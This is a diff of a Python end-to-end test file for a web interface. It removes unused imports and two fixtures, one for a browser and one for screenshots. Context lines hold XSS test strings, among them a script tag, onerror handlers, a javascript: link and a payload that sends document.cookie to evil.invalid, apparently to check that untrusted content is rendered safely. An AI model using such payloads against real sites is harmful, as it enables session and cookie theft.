@@ -6,14 +6,12 @@ against a real writer + ingress + query. Screenshots of the main screens go to
 
 from __future__ import annotations
 
-import os
 import re
-from pathlib import Path
 
 import httpx
 import pytest
 
-from aimem_testing.browser import AXE_JS as AXE, axe_check, chromium, require
+from aimem_testing.browser import axe_check
 from aimem_testing.browser import web_login as login
 
 pytestmark = [pytest.mark.e2e, pytest.mark.timeout(420)]
@@ -25,20 +23,6 @@ XSS_PAGE = ("# Untrusted\n<script>alert('page')</script>\n[click me](javascript:
             "<img src=x onerror=alert('img')>\n![pixel](http://evil.invalid/pixel.png)\n"
             "<a href=\"http://evil.invalid/\" onclick=\"alert('a')\">x</a>")
 XSS_PROMPT = "<script>alert('hook')</script><img src=x onerror=\"fetch('http://evil.invalid/'+document.cookie)\">"
-
-
-@pytest.fixture(scope="module")
-def browser():
-    require(AXE.exists(), f"axe-core is missing at {AXE}: npm install --prefix .cache/npm axe-core (.ci/run does)")
-    with chromium() as b:
-        yield b
-
-
-@pytest.fixture
-def shots(tmp_path) -> Path:
-    d = Path(os.environ.get("AIMEM_WEB_SCREENSHOTS") or tmp_path / "screenshots")
-    d.mkdir(parents=True, exist_ok=True)
-    return d
 
 
 @pytest.fixture(scope="module")
